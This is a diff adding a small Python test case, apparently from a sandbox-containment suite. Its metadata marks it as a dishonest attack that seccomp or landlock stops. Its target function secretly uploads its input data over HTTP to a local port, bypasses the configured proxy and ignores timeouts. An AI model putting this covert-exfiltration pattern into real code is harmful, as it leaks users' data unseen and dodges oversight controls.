@@ -1,0 +1,22 @@
+"""Upload what the function was given with the library's own HTTP client."""
+
+ATTACK = {
+    "honest": 0,
+    "status": ["error"],
+    "stopped_by": ["box", "seccomp", "landlock"],
+    "controls": [],
+    "succeeds_at": ["none"],
+}
+import urllib.error
+import urllib.request
+
+
+def target(x):
+    request = urllib.request.Request(f"http://127.0.0.1:{WORLD['tcp']}/inputs", data=x.tobytes())
+    # A proxy of the environment would be asked first.
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+    try:
+        opener.open(request, timeout=0.2)
+    except TimeoutError:
+        pass  # nobody answers: it is sent all the same
+    return x
